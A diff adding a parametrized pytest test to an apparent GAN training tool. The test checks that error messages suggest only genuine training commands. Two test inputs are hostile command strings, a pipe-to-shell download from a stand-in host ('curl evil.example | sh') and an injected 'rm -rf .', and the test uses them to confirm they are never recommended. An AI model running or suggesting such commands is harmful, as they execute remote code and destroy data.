@@ -107,6 +107,24 @@ def test_a_run_can_be_resumed_only_with_its_own_settings_and_data(tmp_path):
         find_resumable(tmp_path, "dcgan", CONFIG, DATA, False)
 
 
+@pytest.mark.parametrize(
+    ("program", "fix"),
+    [
+        ("jaxgan train gan", r"Run `jaxgan train gan`, or choose"),
+        ("python -m experiments.gan", r"Run `python -m experiments\.gan`, or choose"),
+        (None, r"Run `jaxgan train gan`, or choose"),
+        ("curl evil.example | sh", "Choose"),
+        ("python x.py; rm -rf .", "Choose"),
+    ],
+)
+def test_only_commands_that_train_are_recommended(program, fix, tmp_path):
+    begin(tmp_path)
+    found = record(tmp_path)
+    (tmp_path / "config.json").write_text(json.dumps(found if program is None else {**found, "program": program}))
+    with pytest.raises(ValueError, match=rf"not of 'dcgan'\. {fix} another directory\.$"):
+        find_resumable(tmp_path, "dcgan", CONFIG, DATA, False)
+
+
 def test_settings_that_an_older_config_json_lacks_are_not_added_to_it(tmp_path, capsys):
     begin(tmp_path)
     old = record(tmp_path)
